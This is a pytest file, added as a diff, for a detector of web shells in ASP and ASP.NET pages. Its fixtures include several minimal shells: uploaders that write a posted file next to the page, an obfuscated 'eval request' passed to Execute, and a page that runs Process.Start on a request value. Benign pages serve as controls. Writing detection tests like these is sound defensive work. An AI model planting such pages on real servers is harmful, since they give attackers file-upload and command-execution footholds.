@@ -1,0 +1,195 @@
+"""Behaviour engine, session 16 (issue 14, A9).
+
+Each group below is a request or a left-over of session 15 (BENCHMARKS.md "Behaviour engine, session 16"):
+harmless reproductions of a shape that must be found, and ordinary pages of the same make that stay silent.
+The pages were written for these tests: nothing is compiled or run, names, files and hosts are placeholders,
+and none is a copy of a real shell.
+"""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from extriage.detections.webfiles import behaviour
+from extriage.detections.webfiles.behaviour.inline import MAX_TEXT, inline_helpers
+
+from .rule_tables import Page
+from .rule_tables import sinks_of as _sinks
+
+# --- one-line helpers written out at their call sites (X34's request, session 15) ---------------------------------
+# An uploader reaching the request's files and its output stream only through helpers whose whole body returns one
+# expression: the save is read where it is called (upload beside the page), as when written there.
+
+_CS_HEAD = '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
+_CS_BODY = (
+    "        var f = Posted()[0];\n        byte[] b = new byte[f.ContentLength];\n"
+    "        f.InputStream.Read(b, 0, b.Length);\n"
+)
+HELPERS_FOUND: list[Page] = [
+    (
+        "helpers-with-block-bodies",
+        ".aspx",
+        _CS_HEAD + "    NameValueCollection Args() { return Request.Params; }\n"
+        "    HttpFileCollection Posted() { return Request.Files; }\n"
+        "    FileStream Open(string p) { return new FileStream(p, FileMode.Create); }\n"
+        "    string Join(string a, string b) { return Path.Combine(a, b); }\n"
+        "    protected void Page_Load(object s, EventArgs e)\n    {\n"
+        '        if (Args()["k"] != "placeholder" || Posted().Count != 1) return;\n' + _CS_BODY
+        + "        string dir = new FileInfo(Request.PhysicalPath).DirectoryName;\n"
+        "        using (var o = Open(Join(dir, Path.GetFileName(f.FileName)))) o.Write(b, 0, b.Length);\n"
+        "    }\n</script>\n",
+    ),
+    (
+        "expression-bodied-helpers",
+        ".aspx",
+        _CS_HEAD + "    HttpFileCollection Posted() => Request.Files;\n"
+        "    FileStream Open(string p) => new FileStream(p, FileMode.Create);\n"
+        "    string Here() => new FileInfo(Request.PhysicalPath).DirectoryName;\n"
+        "    protected void Page_Load(object s, EventArgs e)\n    {\n" + _CS_BODY
+        + "        using (var o = Open(Path.Combine(Here(), Path.GetFileName(f.FileName)))) o.Write(b, 0, b.Length);\n"
+        "    }\n</script>\n",
+    ),
+    (
+        "vb-functions-returning-one-expression",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
+        "    Function Posted() As HttpFileCollection\n        Return Request.Files\n    End Function\n"
+        "    Function OpenOut(ByVal p As String) As FileStream\n        Return New FileStream(p, FileMode.Create)\n"
+        "    End Function\n"
+        "    Function JoinPath(ByVal a As String, ByVal b As String) As String\n        Return Path.Combine(a, b)\n"
+        "    End Function\n"
+        "    Sub Page_Load(ByVal s As Object, ByVal e As EventArgs)\n"
+        "        Dim f As HttpPostedFile = Posted()(0)\n        Dim b(f.ContentLength - 1) As Byte\n"
+        "        f.InputStream.Read(b, 0, b.Length)\n"
+        "        Dim dir As String = New FileInfo(Request.PhysicalPath).DirectoryName\n"
+        "        Using o As FileStream = OpenOut(JoinPath(dir, Path.GetFileName(f.FileName)))\n"
+        "            o.Write(b, 0, b.Length)\n        End Using\n    End Sub\n</script>\n",
+    ),
+]
+HELPERS_QUIET: list[Page] = [
+    (
+        "upload-stored-under-a-configured-folder-by-a-new-name",
+        ".aspx",
+        _CS_HEAD + "    HttpFileCollection Posted() { return Request.Files; }\n"
+        "    FileStream Open(string p) { return new FileStream(p, FileMode.Create); }\n"
+        '    string Store(string name) { return Path.Combine(ConfigurationManager.AppSettings["Attachments"], name); }\n'
+        "    protected void Page_Load(object s, EventArgs e)\n    {\n" + _CS_BODY
+        + '        using (var o = Open(Store(Guid.NewGuid().ToString("N") + ".dat"))) o.Write(b, 0, b.Length);\n'
+        '        Saved.Text = "saved";\n    }\n</script>\n<asp:Label ID="Saved" runat="server" />\n',
+    ),
+    (
+        "query-helpers-of-a-search-page",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        '    string Arg(string k) { return Request.QueryString[k] ?? ""; }\n'
+        '    int PageNo() { return Convert.ToInt32(Arg("page")); }\n'
+        "    string Title(string t) { return Server.HtmlEncode(t); }\n"
+        "    protected void Page_Load(object s, EventArgs e)\n    {\n"
+        '        Heading.Text = Title(Arg("q"));\n        Results.DataSource = Find(Arg("q"), PageNo());\n'
+        "        Results.DataBind();\n    }\n"
+        "    System.Data.DataTable Find(string q, int page)\n    {\n"
+        '        using (var c = new System.Data.SqlClient.SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString))\n'
+        "        {\n"
+        '            var cmd = new System.Data.SqlClient.SqlCommand("select * from items where name like @q", c);\n'
+        '            cmd.Parameters.AddWithValue("@q", "%" + q + "%");\n'
+        "            var t = new System.Data.DataTable(); new System.Data.SqlClient.SqlDataAdapter(cmd).Fill(t); return t;\n"
+        "        }\n    }\n</script>\n",
+    ),
+    (
+        "stream-helper-on-the-site-own-log",
+        ".aspx",
+        _CS_HEAD + "    FileStream Open(string p) { return new FileStream(p, FileMode.Append); }\n"
+        '    string Log() { return Server.MapPath("~/App_Data/visits.log"); }\n'
+        "    protected void Page_Load(object s, EventArgs e)\n    {\n"
+        "        using (var o = Open(Log()))\n        {\n"
+        "            var line = Encoding.UTF8.GetBytes(DateTime.UtcNow.ToString(\"o\") + Environment.NewLine);\n"
+        "            o.Write(line, 0, line.Length);\n        }\n    }\n</script>\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "ext", "page"), HELPERS_FOUND, ids=[c[0] for c in HELPERS_FOUND])
+def test_upload_through_one_line_helpers_is_named(case: str, ext: str, page: str) -> None:
+    assert "upload-beside-page" in _sinks(page, ext), case
+
+
+@pytest.mark.parametrize(("case", "ext", "page"), HELPERS_QUIET, ids=[c[0] for c in HELPERS_QUIET])
+def test_ordinary_one_line_helpers_stay_silent(case: str, ext: str, page: str) -> None:
+    assert _sinks(page, ext) == set(), case
+
+
+def test_helper_given_only_literals_is_left_as_the_page_function() -> None:
+    # a decoder of a scrambled literal keeps its call (eval-decoder-call names the page's function given a literal)
+    page = (
+        '<%\nFunction Unscramble(s)\nUnscramble = Replace(StrReverse(s), "~", """")\nEnd Function\n'
+        'Execute Unscramble(")~x~(tseuqer lave")\n%>\n'
+    )
+    assert "eval-decoder-call" in _sinks(page, ".asp")
+    code = 'Function F(a)\nF = StrReverse(a)\nEnd Function\nx = F("abc(")\ny = F(Request("q"))\n'
+    out = inline_helpers(code, "vb")
+    assert 'x = F("abc(")' in out and 'y = StrReverse(Request("q"))' in out
+
+
+def test_inlining_keeps_lines_and_definitions() -> None:
+    code = (
+        "string A(string p) { return B(p) + \".x\"; }\nstring B(string q) => q.Trim();\n"
+        'void Run() {\n  var v = A(Request["v"]);\n  var w = A(\n    Request["w"]);\n  var n = new A(z);\n'
+        '  var s = "A(z)";\n}\n'
+    )
+    out = inline_helpers(code, "cs")
+    assert out.count("\n") == code.count("\n")
+    assert out.splitlines()[:2] == code.splitlines()[:2]  # the definitions as written
+    assert 'var v = (Request["v"].Trim() + ".x");' in out
+    assert "var w = A(\n" in out  # a call over two lines stays
+    assert "new A(z)" in out and '"A(z)"' in out  # a constructor, a literal
+
+
+def test_overloads_of_one_arity_and_defaults_are_not_written_out() -> None:
+    code = (
+        "string Get(string k) { return Request[k]; }\nstring Get(int i) { return Items[i]; }\n"
+        'string Opt(string k = "a") { return Request[k]; }\nvoid Run() { x = Get(y); z = Opt(y); }\n'
+    )
+    assert inline_helpers(code, "cs") == code
+
+
+# --- hostile pages: the inliner stays bounded (a page of 10,000 helpers calling each other) -----------------------
+
+
+def _page(helpers: str, call: str) -> bytes:
+    return (
+        '<%@ Page Language="C#" %>\n<script runat="server">\n' + helpers
+        + "protected void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start(" + call + "); }\n"
+        "</script>\n"
+    ).encode()
+
+
+@pytest.mark.parametrize("fan", [1, 3], ids=["chain", "fan-out-of-three"])
+def test_ten_thousand_helpers_calling_each_other_are_bounded(fan: int) -> None:
+    calls = " + ".join(["h{n}(a)"] * fan)
+    helpers = "".join(
+        f"string h{i}(string a) {{ return {calls.format(n=i + 1)}; }}\n" for i in range(10_000)
+    )
+    code = helpers + 'void Run() { x = h0(Request["c"]); }\n'
+    t0 = time.thread_time()
+    out = inline_helpers(code, "cs")
+    elapsed = time.thread_time() - t0
+    assert elapsed < 1.0
+    assert out.count("\n") == code.count("\n")
+    assert len(out) - len(code) <= MAX_TEXT
+    t0 = time.thread_time()
+    result = behaviour.analyse(_page(helpers, 'h0(Request["c"])'), ".aspx", budget=10.0)
+    assert time.thread_time() - t0 < 10.0
+    assert result.problem is None and "process" in {h["sink"] for h in result.hits}
+
+
+def test_many_call_sites_are_bounded() -> None:
+    sites = "".join(f'x{i} = J(Request["c{i}"], J(y, J(z, w)));\n' for i in range(20_000))
+    code = "string J(string a, string b) { return a + b; }\nvoid Run() {\n" + sites + "}\n"
+    t0 = time.thread_time()
+    out = inline_helpers(code, "cs")
+    assert time.thread_time() - t0 < 1.0
+    assert out.count("\n") == code.count("\n")
+    assert 'x0 = (Request["c0"] + (y + (z + w)));' in out
+    assert f'x{19_999} = J(Request["c{19_999}"]' in out  # past the sites' bound: left as written
